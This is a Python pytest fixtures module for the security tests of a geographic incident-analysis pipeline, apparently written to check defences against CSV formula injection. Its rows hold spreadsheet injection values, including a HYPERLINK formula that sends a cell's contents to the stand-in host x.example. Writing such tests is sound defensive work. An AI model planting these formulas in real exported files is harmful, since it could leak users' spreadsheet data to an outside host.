"""Fixtures the security catalogue's case groups share (module-scoped: built once per file)."""

from __future__ import annotations

from datetime import date

import pytest

from tests.security.helpers import BAMAKO, KAYES, SEGOU, csv_bytes, read


@pytest.fixture(scope="module")
def context():
    from geo.pipeline import load_context

    return load_context()


@pytest.fixture(scope="module")
def payload_analysis(context):
    from geo.pipeline import Filters, Params, prepare_incidents, run_analysis

    rows = [
        {
            "id": "X-1",
            "date": "2025-04-03",
            "lat": BAMAKO[1],
            "lon": BAMAKO[0],
            "notes": '=HYPERLINK("http://x.example/?"&A1,"click")',
        },
        {
            "id": "X-2",
            "date": "2025-04-04",
            "lat": KAYES[1],
            "lon": KAYES[0],
            "notes": "@SUM(1+1)",
            "actor1": "+1+1",
        },
        {
            "id": "X-3",
            "date": "2025-04-05",
            "lat": SEGOU[1],
            "lon": SEGOU[0],
            "notes": "-2+3",
            "actor1": "=1+1",
        },
    ]
    result = read(csv_bytes(rows), "formulas.csv")
    assigned = prepare_incidents(result.incidents, context)
    window = Filters(start=date(2025, 1, 1), end=date(2025, 4, 30))
    return run_analysis(
        assigned, result.report, window, Params(as_of=date(2025, 4, 30)), context=context
    )
